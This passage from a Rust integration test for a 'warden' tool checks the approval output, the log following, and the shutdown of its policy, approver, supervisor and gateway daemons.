        shown.contains(&format!("[approval] {id} APPROVED by uid:")),
        "{shown}"
    );
    assert!(shown.contains("[COMPLETED]"), "{shown}");
    assert!(
        !shown
            .lines()
            .any(|l| l.starts_with(['⠋', '⠙', '⠹', '⠸', '⠼', '⠴', '⠦', '⠧', '⠇', '⠏'])),
        "the status line is gone at the end: {shown}"
    );

    let (ok, logs, err) = {
        let out = run_with_deadline(
            tokio::process::Command::new(&warden_bin).args(["--state-dir", &state, "logs", "up"]),
            Duration::from_secs(30),
        )
        .await
        .unwrap();
        (
            out.status.success(),
            String::from_utf8_lossy(&out.stdout).to_string(),
            String::from_utf8_lossy(&out.stderr).to_string(),
        )
    };
    assert!(ok, "{err}");
    assert!(
        logs.contains("warden is up: policy, approver, supervisor, gateway healthy"),
        "{logs}"
    );
    // Followed: what the background `up` writes as it stops arrives.
    let mut follow = tokio::process::Command::new(&warden_bin)
        .args(["--state-dir", &state, "logs", "-f", "-n", "0", "up"])
        .stdout(std::process::Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let mut followed = {
        use tokio::io::AsyncBufReadExt;
        tokio::io::BufReader::new(follow.stdout.take().unwrap()).lines()
    };
    // It has read the file's end before `down` appends to it.
    tokio::time::sleep(Duration::from_millis(500)).await;

    let out = run_with_deadline(
        tokio::process::Command::new(&warden_bin).args(["--state-dir", &state, "down"]),
        Duration::from_secs(60),
    )
    .await
    .unwrap();
    let said = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(
        out.status.success(),
        "{said}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(said.contains("warden stopped"), "{said}");
    let stopped = tokio::time::timeout(Duration::from_secs(20), async {
        let mut seen = Vec::new();
        while let Ok(Some(l)) = followed.next_line().await {
            let done = l == "warden: stopped";
            seen.push(l);
            if done {
                break;
            }
        }
        seen
    })
    .await
    .expect("warden logs -f shows the stop");
    assert_eq!(
        stopped.last().map(String::as_str),
        Some("warden: stopped"),
        "{stopped:?}"
    );
    let _ = follow.kill().await;
    for daemon in ["policy", "approver", "supervisor", "gateway"] {
        assert!(
            !warden_daemon::client::healthy(&d.layout.socket_of(daemon)).await,
            "warden-{daemon} still answers"
        );
    }
    let out = run_with_deadline(
        tokio::process::Command::new(&warden_bin).args(["--state-dir", &state, "down"]),
        Duration::from_secs(30),
    )
    .await
    .unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("no warden up is running"));
}
